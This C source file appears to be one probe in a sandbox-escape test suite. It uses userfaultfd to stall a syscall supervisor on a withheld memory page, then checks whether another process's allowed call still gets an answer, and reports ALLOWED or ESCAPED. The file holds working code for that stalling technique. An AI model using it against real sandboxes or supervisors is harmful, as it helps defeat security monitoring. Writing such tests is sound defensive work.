/*
 * Memory whose reader waits for as long as the program likes. A call's path lies there. While its page
 * is withheld, another process makes a call that is allowed; a supervisor that waits for the page does
 * not answer it. Then the page is given. An escape is an allowed call without an answer for seconds.
 *
 *     call    userfaultfd()
 *     device  /dev/userfaultfd
 */
#include "bypass.h"

#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>

#ifndef USERFAULTFD_IOC_NEW
#define USERFAULTFD_IOC_NEW _IO(0xAA, 0x00)
#endif

enum { PATIENCE = 3000 };       /* milliseconds */

static void *stat_path(void *path)
{
    struct stat found;

    syscall(SYS_stat, path, &found);
    return NULL;
}

/* Waits for a byte, makes a call that is allowed, and says so. */
static void call_when_told(int told, int tell)
{
    char byte;

    if (read(told, &byte, 1) != 1)
        _exit(1);
    stat_path(attack_path("files/secret-A"));
    _exit(write(tell, "x", 1) != 1);
}

static int is_readable(int fd)
{
    struct pollfd ready = {fd, POLLIN, 0};

    return poll(&ready, 1, PATIENCE) == 1;
}

static enum outcome stall(int fd)
{
    struct uffdio_api api = {.api = UFFD_API};
    struct uffdio_register range = {.mode = UFFDIO_REGISTER_MODE_MISSING};
    struct uffdio_zeropage given = {0};
    size_t page = (size_t)sysconf(_SC_PAGESIZE);
    enum outcome outcome = OTHER;
    struct uffd_msg fault;
    pthread_t thread;
    pid_t self = getpid(), child;
    int down[2], up[2];
    void *at = mmap(NULL, page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

    if (at == MAP_FAILED || pipe(down) != 0 || pipe(up) != 0 || (child = fork()) < 0)
        return OTHER;
    if (child == 0) {
        attack_die_with(self);
        call_when_told(down[0], up[1]);
    }
    range.range.start = given.range.start = (uintptr_t)at;
    range.range.len = given.range.len = page;
    if (ioctl(fd, UFFDIO_API, &api) == 0 && ioctl(fd, UFFDIO_REGISTER, &range) == 0 &&
        pthread_create(&thread, NULL, stat_path, at) == 0) {
        /* Somebody waits for the page now: the supervisor, or the kernel in the call itself. */
        if (is_readable(fd) && read(fd, &fault, sizeof fault) == sizeof fault &&
            write(down[1], "x", 1) == 1)
            outcome = is_readable(up[0]) ? ALLOWED : ESCAPED;
        ioctl(fd, UFFDIO_ZEROPAGE, &given);
        pthread_join(thread, NULL);
    }
    end_child(child);
    return outcome;
}

static enum outcome by_call(void)
{
    int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);

    return fd < 0 ? outcome_of_error(errno) : stall(fd);
}

static enum outcome by_device(void)
{
    int device = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC), fd;

    if (device < 0)
        return errno == ENOENT ? ABSENT : outcome_of_error(errno);
    fd = ioctl(device, USERFAULTFD_IOC_NEW, O_CLOEXEC);
    return fd < 0 ? outcome_of_error(errno) : stall(fd);
}

int main(int argc, char **argv)
{
    static const struct way ways[] = {{"call", by_call}, {"device", by_device}};

    attack_begin(argc, argv);
    if (access("/proc/sys/vm/unprivileged_userfaultfd", F_OK) != 0)
        attack_unsupported("userfaultfd");
    return TRY_WAYS(ways);
}
